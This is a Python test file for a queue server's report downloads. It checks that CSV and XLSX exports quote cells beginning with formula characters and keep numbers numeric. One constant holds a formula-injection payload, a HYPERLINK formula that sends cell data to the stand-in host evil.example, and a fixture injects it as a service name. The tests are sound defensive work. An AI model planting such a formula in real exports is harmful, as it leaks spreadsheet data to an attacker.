"""A report download never hands a spreadsheet a formula: a text cell starting with
``= + - @``, a tab or a carriage return is quoted; numbers, negative ones too, are not."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from queue_server.config import always_open_office_text
from queue_server.services.report_tables import Column, Table, to_csv
from queue_server.services.report_workbook import XLSX_TYPE
from tests.support.live_server import PASSWORD, ThreadServer, seed
from tests.support.office import office_settings

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_csv_quotes_every_cell_a_spreadsheet_would_run() -> None:
    table = Table(
        "t",
        "t",
        (Column("name", "text"), Column("n", "int"), Column("d", "dec")),
        [
            ["=1+1", 1, -1.5],
            ["+62 812", -3, 0.0],
            ["-rm", 0, 2.0],
            ["@SUM(A1)", 2, 1.0],
            ["\tcmd", 3, 1.0],
            ["\rcmd", 4, 1.0],
            ["Paspor", 5, 1.0],
        ],
    )
    rows = list(csv.reader(io.StringIO(to_csv(table, str))))[1:]
    assert [row[0] for row in rows] == [
        "'=1+1", "'+62 812", "'-rm", "'@SUM(A1)", "'\tcmd", "'\rcmd", "Paspor",
    ]  # fmt: skip
    assert [row[1] for row in rows] == ["1", "-3", "0", "2", "3", "4", "5"]
    assert [row[2] for row in rows[:3]] == ["-1.5", "0.0", "2.0"]  # a negative number stays


@pytest.fixture
def hostile_office(tmp_path: Path, database_url: str) -> Iterator[ThreadServer]:
    """An office whose service name is a formula, on every engine under test."""
    text = always_open_office_text().replace(
        'name_id = "Pengambilan Paspor"', f"name_id = '{HOSTILE}'"
    )
    settings = office_settings(tmp_path, database_url, office_text=text)
    server = ThreadServer(settings=settings, tokens=seed(settings))
    server.start()
    yield server
    server.stop()


def test_report_download_quotes_a_formula(hostile_office: ThreadServer) -> None:
    server = hostile_office
    kiosk = {"authorization": f"Bearer {server.device_token('kiosk')}"}
    issued = httpx.post(
        f"{server.url}/api/v1/tickets",
        json={"service": "AP", "source": "walk_in", "client_ref": "csv-formula-1"},
        headers=kiosk,
    )
    assert issued.status_code == 201, issued.text
    login = {"username": "kepala", "password": PASSWORD}
    token = httpx.post(f"{server.url}/api/v1/auth/login", json=login).json()["token"]
    reply = httpx.get(
        f"{server.url}/api/v1/reports/day?table=queues",
        headers={"authorization": f"Bearer {token}", "accept": "text/csv"},
    )
    assert reply.status_code == 200, reply.text
    cells = [row[0] for row in csv.reader(io.StringIO(reply.text.lstrip("\ufeff")))]
    assert f"'{HOSTILE}" in cells
    assert HOSTILE not in cells


def test_report_workbook_keeps_a_formula_as_text_and_numbers_as_numbers(
    hostile_office: ThreadServer,
) -> None:
    server = hostile_office
    kiosk = {"authorization": f"Bearer {server.device_token('kiosk')}"}
    for ref in ("xlsx-formula-1", "xlsx-formula-2"):
        issued = httpx.post(
            f"{server.url}/api/v1/tickets",
            json={"service": "AP", "source": "walk_in", "client_ref": ref},
            headers=kiosk,
        )
        assert issued.status_code == 201, issued.text
    login = {"username": "kepala", "password": PASSWORD}
    token = httpx.post(f"{server.url}/api/v1/auth/login", json=login).json()["token"]
    reply = httpx.get(
        f"{server.url}/api/v1/reports/day",
        headers={"authorization": f"Bearer {token}", "accept": XLSX_TYPE},
    )
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"] == XLSX_TYPE
    book = load_workbook(io.BytesIO(reply.content))
    report = httpx.get(
        f"{server.url}/api/v1/reports/day", headers={"authorization": f"Bearer {token}"}
    ).json()["report"]
    sheet = book.worksheets[0]  # the queues, as on the page
    rows = list(sheet.iter_rows(values_only=True))
    hostile = next(row for row in rows if row[0] == HOSTILE)  # text, not a formula
    assert sheet.cell(row=rows.index(hostile) + 1, column=1).data_type == "s"
    queue = next(q for q in report["queues"] if q["name_id"] == HOSTILE)
    assert hostile[1] == sum(queue["outcomes"].values()) == 2  # a number, as in the report
    assert isinstance(hostile[1], int)
    assert len(book.worksheets) >= 2  # every table of the report, a sheet each
